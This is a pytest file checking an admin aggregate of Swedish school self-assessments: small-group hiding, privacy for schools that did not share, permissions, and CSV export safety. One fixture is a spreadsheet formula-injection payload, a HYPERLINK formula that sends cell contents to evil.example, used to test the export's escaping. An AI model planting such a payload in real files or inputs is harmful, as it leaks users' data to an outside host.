"""Team Domino's aggregate in the admin, on assessments completed through the services: small
groups hidden, schools that did not share never identifiable, CSV content formula-safe."""

import csv
import io

import pytest
from bs4 import BeautifulSoup
from django.contrib.auth.models import Permission
from django.urls import reverse

from kcsite.pages.demo_tools import Demo
from network.assessment.demo import load_indicator_set
from network.assessment.models import Assessment
from network.assessment.services import filling
from network.assessment.services.indicators import set_data
from tests import builders

pytestmark = pytest.mark.django_db

URL = "/admin/sjalvskattning/samlat/"
SECRET_SCHOOL = "Hemliga gymnasiet"
FORMULA_SCHOOL = '=HYPERLINK("http://evil.example/?"&A1,"Klicka")'


@pytest.fixture
def indicator_set():
    return load_indicator_set(Demo(io.StringIO(), None))


def complete(school, school_form="compulsory", *, level="2", shared=False, dont_know=()):
    """A completed assessment of ``school``: every statement at ``level``, those whose keys are
    in ``dont_know`` answered "vet inte"."""
    assessment = filling.start(
        school_unit=school, school_form=school_form, email="rektor@example.org"
    )
    data = set_data(assessment.indicator_set_id)
    for area in data.areas:
        levels = {
            s.key: "dont_know" if s.key in dont_know else level
            for s in data.statements_of(area.key)
        }
        assessment = filling.save_area(
            assessment.pk, assessment.version, area_key=area.key, levels=levels
        )
    return filling.complete(assessment.pk, assessment.version, share_with_team_domino=shared)


@pytest.fixture
def field(indicator_set):
    """Six compulsory schools (one shares), three upper-secondary schools (hidden: < 5) and
    two adapted compulsory schools (hidden too; together with the upper-secondary ones five)."""
    schools = [complete(f"Norrskolan {n}", level=str(1 + n % 3)) for n in range(5)]
    schools.append(complete("Delande skolan", level="3", shared=True))
    schools += [
        complete(SECRET_SCHOOL, "upper_secondary", level="4", dont_know={"pupil-voice"}),
        complete("Gymnasium B", "upper_secondary"),
        complete("Gymnasium C", "upper_secondary"),
        complete("Särskola A", "adapted_compulsory"),
        complete("Särskola B", "adapted_compulsory"),
    ]
    return schools


@pytest.fixture
def team_domino(client):
    client.force_login(builders.staff_user("domino", superuser=True))
    return client


def _soup(response):
    return BeautifulSoup(response.content, "html.parser")


def _csv(client):
    response = client.get(URL + "?export=csv")
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_groups_under_five_schools_are_hidden_and_names_only_when_shared(field, team_domino):
    response = team_domino.get(URL)
    assert response.status_code == 200
    soup = _soup(response)
    text = soup.get_text(" ")
    assert SECRET_SCHOOL not in text and "Gymnasium B" not in text and "Norrskolan 1" not in text
    table = soup.find("caption", string="Medelnivå per område och skolform").find_parent("table")
    headers = [th.get_text() for th in table.select("thead th")]
    assert headers == ["Område", "Grundskola", "Anpassad grundskola", "Gymnasieskola"]
    first_row = [td.get_text() for td in table.select("tbody tr")[0].select("td")]
    assert first_row[0] != "för få skolor för att visa"
    assert first_row[1:] == ["för få skolor för att visa"] * 2
    shared = soup.find("caption", string="Skolor som delat sitt resultat med Team Domino")
    rows = shared.find_parent("table").select("tbody tr")
    assert [row.th.get_text() for row in rows] == ["Delande skolan"]
    assert team_domino.get(rows[0].a["href"]).status_code == 200
    pdf = team_domino.get(rows[0].a["href"] + "pdf/")
    assert pdf.status_code == 200 and pdf["Content-Type"] == "application/pdf"


def test_the_school_that_did_not_share_is_not_in_the_csv_nor_reachable(field, team_domino):
    rows = _csv(team_domino)
    cells = {cell for row in rows for cell in row}
    assert not any(SECRET_SCHOOL in cell for cell in cells)
    upper = [row for row in rows if row[0] == "Gymnasieskola"]
    assert len(upper) == 6 and all(
        row[2:] == ["för få skolor för att visa", "", ""] for row in upper
    )
    secret = Assessment.objects.get(school_unit=SECRET_SCHOOL)
    shared_url = reverse("assessment_aggregate:shared", args=[secret.pk])
    assert team_domino.get(shared_url).status_code == 404
    assert team_domino.get(shared_url + "pdf/").status_code == 404


def test_csv_holds_the_figures_and_cannot_run_formulas(indicator_set, team_domino):
    for n in range(4):
        complete(f"Skola {n}", level="2", dont_know={"pupil-voice"})
    complete(FORMULA_SCHOOL, level="4", shared=True)
    rows = _csv(team_domino)
    assert rows[0] == ["Grupp", "Område", "Skolor", "Medelnivå (1–4)", "Vet inte (%)"]
    assert ["Alla skolor", "Främjande arbete", "5", "2.4", "0"] in rows
    # Kartläggning: three statements, four schools answered "vet inte" for one of them.
    mapping = next(r for r in rows if r[:2] == ["Alla skolor", "Kartläggning"])
    assert mapping[4] == str(round(100 * 4 / 15))
    named = [row for row in rows if "HYPERLINK" in row[0]]
    assert named and all(row[0].startswith("'=") for row in named)
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_too_few_schools_show_no_figures(indicator_set, team_domino):
    for n in range(4):
        complete(f"Skola {n}")
    soup = _soup(team_domino.get(URL))
    assert not soup.select("svg[role=img]") and not soup.select(".chart-with-table")
    assert "För få skolor för att visa." in soup.get_text()
    rows = _csv(team_domino)
    assert all(row[2] == "för få skolor för att visa" for row in rows[1:])


def test_drafts_do_not_count(indicator_set, team_domino):
    for n in range(4):
        complete(f"Skola {n}")
    filling.start(school_unit="Utkastskolan", school_form="compulsory", email="a@example.org")
    assert "För få skolor för att visa." in _soup(team_domino.get(URL)).get_text()


def test_charts_have_their_tables(field, team_domino):
    soup = _soup(team_domino.get(URL))
    charts = soup.select(".chart-with-table")
    assert len(charts) == 4  # all schools, weakest, "vet inte", the compulsory schools
    for chart in charts:
        assert chart.select_one("svg[role=img]") and chart.select_one("table tbody tr")


def test_staff_without_the_permission_are_refused(field, client):
    client.force_login(builders.staff_user("redaktor2"))
    assert client.get(URL).status_code in (302, 403)
    assert client.get(URL + "?export=csv").status_code in (302, 403)


def test_staff_with_the_view_permission_see_it(field, client):
    user = builders.staff_user("domino-staff")
    user.user_permissions.add(
        *Permission.objects.filter(
            codename__in=["access_admin", "view_assessment"],
            content_type__app_label__in=["wagtailadmin", "assessment"],
        )
    )
    client.force_login(user)
    assert client.get(URL).status_code == 200
    sidebar = _soup(client.get("/admin/")).select_one("#wagtail-sidebar-props")
    assert sidebar is not None and URL in sidebar.get_text()  # the menu item is shown


def test_the_menu_item_is_hidden_without_the_permission(client):
    user = builders.staff_user("redaktor3")
    user.user_permissions.add(Permission.objects.get(codename="access_admin"))
    client.force_login(user)
    sidebar = _soup(client.get("/admin/")).select_one("#wagtail-sidebar-props")
    assert sidebar is not None and URL not in sidebar.get_text()


def test_the_team_domino_group_sees_it_and_editors_edit_only_the_indicators(field, client):
    """Granted by the migration (assessment 0002), not by hand."""
    member = builders.staff_user("domino-member", groups=["Team Domino"])
    client.force_login(member)
    assert client.get(URL).status_code == 200
    assert member.has_perm("assessment.change_statement")
    editor = builders.staff_user("editor", groups=["Editors"])
    assert editor.has_perm("assessment.change_statement")
    assert not editor.has_perm("assessment.view_assessment")
    client.force_login(editor)
    assert client.get(URL).status_code in (302, 403)
